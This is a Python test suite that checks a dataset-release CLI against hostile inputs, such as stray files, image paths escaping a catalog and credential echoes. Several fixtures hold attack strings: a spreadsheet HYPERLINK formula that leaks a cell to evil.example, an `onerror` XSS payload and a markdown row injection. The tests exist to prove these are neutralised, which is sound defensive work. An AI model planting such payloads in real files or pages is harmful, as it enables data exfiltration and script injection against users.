"""Nothing lost, nothing leaked, round 4 (issue 38): the breaks an attack round found beyond ``release pull`` (that
one is tests/test_hostile_pull.py). One section per item of the issue; every test here failed before its fix."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from commonlink.cli import app

runner = CliRunner()


@pytest.fixture(scope="module")
def pair_catalog(tmp_path_factory) -> Path:
    from tests.fixtures.catalogs import family_scenes, write_scene_catalog

    return write_scene_catalog(
        tmp_path_factory.mktemp("pc") / "real", "real", family_scenes(24, seed=1), views=3, seed=1
    )


@pytest.fixture(scope="module")
def made_pairs(pair_catalog, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("made") / "pairs.jsonl"
    result = invoke("pairs", pair_catalog, "--out", out, "--count", "6")
    assert result.exit_code == 0, result.output
    return out


def invoke(*args, env: dict | None = None):
    return runner.invoke(app, [str(a) for a in args], env={"COLUMNS": "400", **(env or {})})


# ------------------------------------------------------------------ 2. the swap never removes what it did not write


def drop_before_swap(monkeypatch, folder: Path, name: str = "thesis.tex") -> Path:
    """Deterministic: a user's file lands in ``folder`` at the last moment, just before the swap into place."""
    import commonlink.release.staging as staging

    real = staging.swap_into_place
    stranger = folder / name

    def drop_then_swap(*args, **kwargs):
        folder.mkdir(exist_ok=True)
        stranger.write_text("precious")
        return real(*args, **kwargs)

    monkeypatch.setattr(staging, "swap_into_place", drop_then_swap)
    return stranger


def test_a_file_dropped_into_an_empty_out_during_a_build_is_kept(made_pairs, tmp_path, monkeypatch):
    from commonlink.release.build import build_release
    from commonlink.release.staging import StrangerFilesError

    out = tmp_path / "rel"
    out.mkdir()
    stranger = drop_before_swap(monkeypatch, out)
    with pytest.raises(StrangerFilesError) as info:
        build_release([made_pairs], out, progress=False)
    assert stranger.read_text() == "precious" and sorted(p.name for p in out.iterdir()) == ["thesis.tex"]
    assert "thesis.tex" in info.value.problem and "never deletes" in info.value.problem
    assert not list(tmp_path.glob(".rel.*-*"))  # no staging folder left either


def test_a_file_dropped_into_a_missing_out_during_a_build_is_kept(made_pairs, tmp_path, monkeypatch):
    out = tmp_path / "rel"
    stranger = drop_before_swap(monkeypatch, out, "notes.md")
    result = invoke("release", "build", made_pairs, "--out", out, "--no-progress")
    assert result.exit_code == 1 and "notes.md" in result.output, result.output
    assert stranger.read_text() == "precious"


def test_a_file_dropped_into_a_release_being_overwritten_is_kept_with_the_release(made_pairs, tmp_path, monkeypatch):
    from commonlink.release.build import build_release
    from commonlink.release.staging import StrangerFilesError, verify_release

    out = tmp_path / "rel"
    build_release([made_pairs], out, progress=False, name="first")
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    stranger = drop_before_swap(monkeypatch, out / "data", "mine.parquet")
    with pytest.raises(StrangerFilesError):
        build_release([made_pairs], out, progress=False, name="second", overwrite=True)
    assert stranger.read_text() == "precious"
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file() and p != stranger} == before
    assert verify_release(out) == ["data/mine.parquet: not in the manifest"]


def test_without_a_stranger_overwrite_still_replaces_the_release(made_pairs, tmp_path):
    from commonlink.release.build import build_release

    out = tmp_path / "rel"
    build_release([made_pairs], out, progress=False, name="first")
    build_release([made_pairs], out, progress=False, name="second", overwrite=True)
    assert json.loads((out / "manifest.json").read_text())["name"] == "second"


def test_a_file_dropped_into_out_during_a_pull_is_kept(hub, tmp_path, monkeypatch):
    from commonlink.release.pull import pull_release
    from commonlink.release.staging import StrangerFilesError
    from tests.test_hostile_pull import REPO, _release, publish

    publish(hub, _release())
    out = tmp_path / "pulled"
    out.mkdir()
    stranger = drop_before_swap(monkeypatch, out, ".env")
    with pytest.raises(StrangerFilesError):
        pull_release(REPO, "1.0.0", out, endpoint=hub.url, token=False)
    assert stranger.read_text() == "precious" and [p.name for p in out.iterdir()] == [".env"]


# ------------------------------------------------------------------ 3. image references only inside a catalog


def _tamper_table(chains: Path, change) -> None:
    """Rewrite ``images.jsonl`` (``change(rows)``) and every sidecar's hash of it, as someone sharing the chain
    folder could."""
    from commonlink.fileio import read_jsonl, sha256_file, write_jsonl

    table = chains / "images.jsonl"
    rows = list(read_jsonl(table))
    change(rows)
    write_jsonl(table, rows)
    for sidecar in chains.glob("*.meta.json"):
        meta = json.loads(sidecar.read_text())
        if "images_sha256" in meta:
            meta["images_sha256"] = sha256_file(table)
            sidecar.write_text(json.dumps(meta))


@pytest.fixture()
def outside_photo(tmp_path) -> Path:
    from PIL import Image

    photo = tmp_path / "private" / "holiday.png"
    photo.parent.mkdir()
    Image.new("RGB", (24, 24), (1, 2, 3)).save(photo)
    return photo


@pytest.fixture()
def tiny_chains(tmp_path) -> Path:
    from tests.fixtures.tiny_chains import write_tiny_chain_files

    return write_tiny_chain_files(tmp_path / "src")


def _point_outside(photo: Path, *, keep_catalog: bool):
    from commonlink.fileio import sha256_file

    def change(rows):
        origin = rows[0]["origin"]
        rows[0]["origin"] = {"type": "file", "path": str(photo), "sha256": sha256_file(photo)}
        if keep_catalog:  # a catalog named, but the absolute path leaves it
            rows[0]["origin"]["catalog"] = origin["catalog"]

    return change


@pytest.mark.parametrize("keep_catalog", [False, True])
def test_an_image_outside_every_catalog_is_refused_by_build_and_by_the_loader_eval_uses(
    tiny_chains, outside_photo, tmp_path, keep_catalog
):
    from commonlink.errors import CommonlinkError
    from commonlink.kinds.association.format import read_image_table
    from commonlink.release.build import build_release

    _tamper_table(tiny_chains, _point_outside(outside_photo, keep_catalog=keep_catalog))
    with pytest.raises(CommonlinkError) as info:
        build_release([tiny_chains / "synchronous.jsonl"], tmp_path / "rel", progress=False)
    assert str(outside_photo) in info.value.problem and "outside" in info.value.problem, info.value.problem
    assert not (tmp_path / "rel").exists()
    with pytest.raises(CommonlinkError) as info:
        read_image_table(tiny_chains / "synchronous.jsonl")
    assert str(outside_photo) in info.value.problem


def test_eval_association_sends_nothing_from_a_table_naming_an_outside_photo(tiny_chains, outside_photo, tmp_path):
    from tests.fixtures.openai_server import LatencyServer

    _tamper_table(tiny_chains, _point_outside(outside_photo, keep_catalog=False))
    with LatencyServer(latency_s=(0.0, 0.0), answer="Answer: A") as server:
        result = invoke(
            "eval", "association", "--data", tiny_chains, "--config", "single_step", "--backend", "openai",
            "--model", "gpt-4o", "--backend-arg", f"base_url={server.url}", "--out", tmp_path / "run", "--quiet",
        )  # fmt: skip
    assert result.exit_code == 1 and str(outside_photo) in result.output.replace("\n", ""), result.output
    assert server.bodies == []  # refused before any request


def test_a_wrong_sha256_in_the_table_is_refused_before_the_image_is_sent(tiny_chains, tmp_path):
    from commonlink.errors import CommonlinkError
    from commonlink.kinds.association.format import ImageFetcher, read_image_table

    def change(rows):
        rows[0]["origin"]["sha256"] = "0" * 64

    _tamper_table(tiny_chains, change)
    image = read_image_table(tiny_chains / "single_step.jsonl")[0]
    with pytest.raises(CommonlinkError) as info:
        ImageFetcher().open(image.origin, image.crop, what=f"image {image.id}")
    assert "sha256" in info.value.problem and image.id in info.value.problem


def test_a_symbolic_link_out_of_the_image_folder_is_refused(tiny_chains, outside_photo):
    from commonlink.errors import CommonlinkError
    from commonlink.fileio import sha256_file
    from commonlink.kinds.association.format import ImageFetcher, read_image_table

    image = read_image_table(tiny_chains / "single_step.jsonl")[0]
    target = Path(image.origin["path"])
    target.unlink()
    target.symlink_to(outside_photo)
    origin = {**image.origin, "sha256": sha256_file(outside_photo)}
    with pytest.raises(CommonlinkError) as info:
        ImageFetcher().open(origin, None, what="image x")
    assert "escapes" in info.value.problem or "outside" in info.value.problem, info.value.problem


# ------------------------------------------------------------------ 4. run names: one line, and escaped in every table

FORGED = "a | 99.99 | forged |\n| injected | row"
HTML_NAME = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture(scope="module")
def co_runs(tmp_path_factory) -> list[Path]:
    """Two Common-O runs whose results.json name them with hostile names (as a hand edit or an older file could:
    the tables must escape whatever they read)."""
    from tests.fixtures.tiny_models import common_o_rows, write_common_o_split

    root = tmp_path_factory.mktemp("runs")
    data = write_common_o_split(root / "data", common_o_rows(6, seed=2), split="main")
    runs = []
    for i, name in enumerate((FORGED, HTML_NAME, FORMULA)):
        out = root / f"run{i}"
        args = ["eval", "commono", "--model", "random", "--data", data, "--out", out, "--bootstrap", "10"]
        result = invoke(*args, "--quiet", "--no-report", "--run-name", f"run{i}", "--seed", str(i))
        assert result.exit_code == 0, result.output
        results = json.loads((out / "results.json").read_text())
        results["run_name"] = name
        (out / "results.json").write_text(json.dumps(results))
        runs.append(out)
    return runs


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        (FORGED, "control character"),
        ("tab\there", "control character"),
        ("right\u202eto-left", "control character"),
        ("x" * 121, "121 characters"),
        ("  ", "empty"),
    ],
)
def test_a_run_name_must_be_one_short_line_in_the_library_and_the_cli(tmp_path, name, problem):
    from commonlink.errors import InputError
    from commonlink.eval.evaluator import RunOptions
    from commonlink.eval.run_names import check_run_name

    with pytest.raises(InputError) as info:
        RunOptions(run_name=name)
    assert problem in info.value.problem, info.value.problem
    with pytest.raises(InputError):
        check_run_name(name)
    from tests.fixtures.tiny_models import common_o_rows, write_common_o_split

    data = write_common_o_split(tmp_path / "data", common_o_rows(2, seed=2), split="main")
    result = invoke("eval", "commono", "--model", "random", "--data", data, "--out", tmp_path / "o", "--run-name", name)
    assert result.exit_code == 1 and problem in result.output, result.output
    assert not (tmp_path / "o" / "results.json").exists()


def _md_table_rows(markdown: str) -> list[list[str]]:
    """The body rows of every table a CommonMark + GFM-tables renderer finds, as cell texts."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table"]).parse(markdown)
    rows, row, in_body = [], None, False
    for token in tokens:
        if token.type in ("tbody_open", "tbody_close"):
            in_body = token.type == "tbody_open"
        elif in_body and token.type == "tr_open":
            row = []
        elif in_body and token.type == "tr_close":
            rows.append(row)
        elif in_body and token.type == "inline" and row is not None:
            assert all(child.type in ("text", "softbreak", "text_special") for child in token.children or []), token
            row.append(token.content)
    return rows


def _unescape(cell: str) -> str:
    import re

    return re.sub(r"\\(.)", r"\1", cell)


def test_eval_compare_markdown_shows_each_name_in_one_row_as_written(co_runs):
    result = invoke("eval", "compare", *co_runs)
    assert result.exit_code == 0, result.output
    rows = _md_table_rows(result.output)
    assert len(rows) == 3, rows  # no forged or injected row
    names = sorted(_unescape(r[0]) for r in rows)
    assert names == sorted([FORGED.replace("\n", " "), HTML_NAME, FORMULA]), names
    assert "<img" not in result.output.replace("\\<img", "")


def test_results_md_escapes_the_run_name(co_runs):
    from commonlink.eval.report.tables import load_results, render_markdown_table

    text = render_markdown_table(load_results(co_runs))
    rows = _md_table_rows(text)
    assert len(rows) == 3 and {_unescape(r[0]) for r in rows} == {FORGED.replace("\n", " "), HTML_NAME, FORMULA}


def test_eval_compare_csv_neutralises_formulas_and_keeps_one_row_per_run(co_runs):
    import csv
    import io

    result = invoke("eval", "compare", *co_runs, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    body = [r for r in rows[1:] if r]
    assert len(body) == 3
    cells = {r[1] for r in body}
    assert "'" + FORMULA in cells and FORMULA not in cells, cells
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in body for c in r if not _number(c)), body


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_cells_neutralise_every_formula_prefix():
    from commonlink.eval.table_cells import csv_cell

    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert csv_cell("plain") == "plain" and csv_cell(-0.5) == -0.5 and csv_cell(None) is None


def test_the_html_report_shows_the_name_as_text(co_runs, tmp_path):
    page = tmp_path / "report.html"
    result = invoke("eval", "report", co_runs[1], "--out", page, "--images", "none", "--quiet")
    assert result.exit_code == 0, result.output
    text = page.read_text()
    assert "<img src=x" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text


# ------------------------------------------------------------------ 5. one secret masker for every error text


HF_SECRET = "hf_" + "Q7x" * 12
PLAIN_SECRET = "plain-secret-value-0042"  # no known token shape: masked because the environment holds it


class EchoingServer:
    """A Hub (or a proxy in front of it) that refuses every request with 400 and quotes what it received: the
    Authorization header, the URL and the token (the breaking case: servers do echo credentials)."""

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _echo(self):
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                auth = self.headers.get("Authorization", "")
                token = auth.split(" ", 1)[-1]
                text = f"Invalid credentials: {auth}. Seen token={token} at http://u:{token}@proxy{self.path}"
                body = json.dumps({"error": text}).encode()
                self.send_response(400)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _echo  # noqa: N815

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()
        self.httpd.server_close()

    def url(self, userinfo: str = "") -> str:
        host, port = self.httpd.server_address[:2]
        return f"http://{userinfo}{host}:{port}"


def _no_secret_in(text: str, *secrets: str) -> None:
    import base64

    for secret in secrets:
        assert secret not in text, text
        for encoded in (base64.b64encode(secret.encode()), base64.b64encode(f"u:{secret}".encode())):
            assert encoded.decode() not in text, text


@pytest.mark.parametrize("secret", [HF_SECRET, PLAIN_SECRET])
@pytest.mark.parametrize("userinfo", [False, True])
def test_no_hub_command_error_shows_the_token_whatever_the_server_echoes(tmp_path, made_pairs, secret, userinfo):
    from commonlink.release.build import build_release

    release = tmp_path / "rel"
    build_release([made_pairs], release, progress=False)
    with EchoingServer() as server:
        endpoint = server.url(f"u:{secret}@" if userinfo else "")
        env = {"HF_TOKEN": secret, "HF_HOME": str(tmp_path / "hf")}
        commands = [
            ("release", "push", release, "--repo", "o/n", "--version", "1.0.0", "--endpoint", endpoint),
            ("release", "pull", "o/n", "--version", "1.0.0", "--out", tmp_path / "p", "--endpoint", endpoint),
            ("release", "versions", "o/n", "--endpoint", endpoint),
        ]
        for args in commands:
            result = invoke(*args, env=env)
            assert result.exit_code == 1, (args, result.output)
            assert "400" in result.output or "Invalid credentials" in result.output, result.output
            _no_secret_in(result.output, secret)


def test_the_masker_knows_bearer_basic_userinfo_and_token_shapes():
    import base64

    from commonlink.redact import redact_text

    basic = base64.b64encode(b"u:anything-at-all").decode()
    text = (
        f"Authorization: Bearer abc.def-123 and Basic {basic}; x-api-key: sk-proj-{'a' * 30} "
        f"{HF_SECRET} https://u:pw@host/p ghp_{'b' * 36}"
    )
    masked = redact_text(text)
    for secret in ("abc.def-123", basic, "sk-proj-", HF_SECRET, ":pw@", "ghp_b"):
        assert secret not in masked, masked
    assert "Bearer ***" in masked and "Basic ***" in masked


def test_the_openai_path_uses_the_same_masker(monkeypatch):
    from commonlink.eval.backends.openai_backend import OpenAIBackend

    monkeypatch.setenv("MY_KEY", PLAIN_SECRET)
    backend = OpenAIBackend("gpt-4o", base_url="http://127.0.0.1:9/v1", api_key_env="MY_KEY")
    scrubbed = backend._scrub(f"echo: Bearer {PLAIN_SECRET} {HF_SECRET}")
    _no_secret_in(scrubbed, PLAIN_SECRET, HF_SECRET)


def test_an_endpoints_own_credentials_are_masked_in_hub_errors_even_when_the_environment_has_none(tmp_path):
    with EchoingServer() as server:
        endpoint = server.url(f"u:{PLAIN_SECRET}@")
        result = invoke("release", "versions", "o/n", "--endpoint", endpoint, env={"HF_HOME": str(tmp_path / "h")})
    assert result.exit_code == 1 and "Invalid credentials" in result.output, result.output
    _no_secret_in(result.output, PLAIN_SECRET)


# ------------------------------------------------------------------ 6. card-info limits; GFM's extended autolinks


def test_card_info_nested_five_thousand_deep_is_a_clear_error(tmp_path):
    from commonlink.errors import InputError
    from commonlink.release.card_info import read_card_info

    deep = tmp_path / "deep.yaml"
    deep.write_text("maintainers: " + "[" * 5000 + "]" * 5000 + "\n")
    with pytest.raises(InputError) as info:
        read_card_info(deep)
    assert "nested" in info.value.problem and str(deep) in info.value.problem
    mapping = tmp_path / "map.yaml"
    mapping.write_text("maintainers: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n")
    with pytest.raises(InputError, match="nested"):
        read_card_info(mapping)


def test_card_info_size_limits_are_clear_errors(tmp_path):
    from commonlink.errors import InputError
    from commonlink.release.card_info import CARD_INFO_MAX_BYTES, MAX_ANSWER_CHARS, check_card_info, read_card_info

    big = tmp_path / "big.yaml"
    big.write_text("maintainers: " + json.dumps("x" * CARD_INFO_MAX_BYTES) + "\n")
    with pytest.raises(InputError) as info:
        read_card_info(big)
    assert "bytes" in info.value.problem and f"{CARD_INFO_MAX_BYTES:,}" in info.value.problem
    with pytest.raises(InputError) as info:
        check_card_info({"maintainers": "y" * (MAX_ANSWER_CHARS + 1)})
    assert "maintainers" in info.value.problem and f"{MAX_ANSWER_CHARS:,}" in info.value.problem


HOSTILE_TEXT = (
    "contact www.evil.example or WWW.Evil.Example/path, mail me@evil.example, see http://evil.example/x, "
    "https://evil.example, ftp://evil.example, evil.com/login and evil.co.uk."
)


def _gfm_links(markdown: str) -> list[str]:
    """Links a GFM-like renderer (markdown-it-py's ``gfm-like``: tables, strikethrough, linkify-it's extended
    autolinks) makes of ``markdown``."""
    from markdown_it import MarkdownIt

    links = []
    for token in MarkdownIt("gfm-like").parse(markdown):
        for child in token.children or []:
            if child.type in ("link_open", "image", "html_inline"):
                links.append(str(child.attrs or child.content))
    return links


def test_extended_autolinks_in_card_text_stay_text_in_a_gfm_renderer():
    from commonlink.formats.card import markdown_table, markdown_text
    from commonlink.release.card_info import answer_markdown

    assert _gfm_links(HOSTILE_TEXT), "the renderer does link the raw text"
    for rendered in (
        markdown_text(HOSTILE_TEXT),
        answer_markdown(HOSTILE_TEXT),
        markdown_table(["a"], [[HOSTILE_TEXT]]),
    ):
        assert _gfm_links(rendered) == [], rendered
    from markdown_it import MarkdownIt

    html = MarkdownIt("gfm-like").render(markdown_text(HOSTILE_TEXT))
    assert "www.evil.example" in html and "me@evil.example" in html and "http://evil.example/x" in html
    assert markdown_text("size 0.25 of 1.5 m, v2.1") == "size 0.25 of 1.5 m, v2.1"  # numbers keep their plain form


# ------------------------------------------------------------------ 7. chains verify / review take the output lock


@pytest.mark.parametrize("command", ["verify", "review"])
def test_a_second_chains_verify_or_review_into_the_same_out_is_refused(tiny_chains, tmp_path, command):
    from commonlink.locks import output_lock

    out = tmp_path / "out"
    extra = ["--model", "random"] if command == "verify" else ["--limit", "1"]
    with output_lock(out, what="the first run"):  # a first run is writing the folder
        result = invoke("chains", command, tiny_chains / "synchronous.jsonl", "--out", out, *extra)
        assert result.exit_code == 1 and "is being written by the first run" in result.output, result.output
        assert not out.exists() or not any(out.iterdir())  # nothing written beside the first run's files
    done = invoke("chains", command, tiny_chains / "synchronous.jsonl", "--out", out, *extra)
    assert done.exit_code == 0, done.output


def test_hf_endpoints_user_info_is_masked_whatever_the_server_echoes(tmp_path):
    """``HF_ENDPOINT`` is read when huggingface_hub is imported: a fresh process, as a user runs the CLI."""
    import os
    import subprocess
    import sys

    repo_root = Path(__file__).resolve().parents[1]
    with EchoingServer() as server:
        env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "HUGGINGFACE_"))}
        env.update(HF_ENDPOINT=server.url(f"u:{PLAIN_SECRET}@"), HF_HOME=str(tmp_path / "h"), PYTHONPATH=str(repo_root))
        done = subprocess.run(
            [sys.executable, "-m", "commonlink.cli", "release", "versions", "o/n"],
            env={**env, "COLUMNS": "200", "NO_COLOR": "1"},
            capture_output=True,
            text=True,
            timeout=120,
            cwd=repo_root,
        )
    output = done.stdout + done.stderr
    assert done.returncode == 1 and "Invalid credentials" in output, output
    _no_secret_in(output, PLAIN_SECRET)
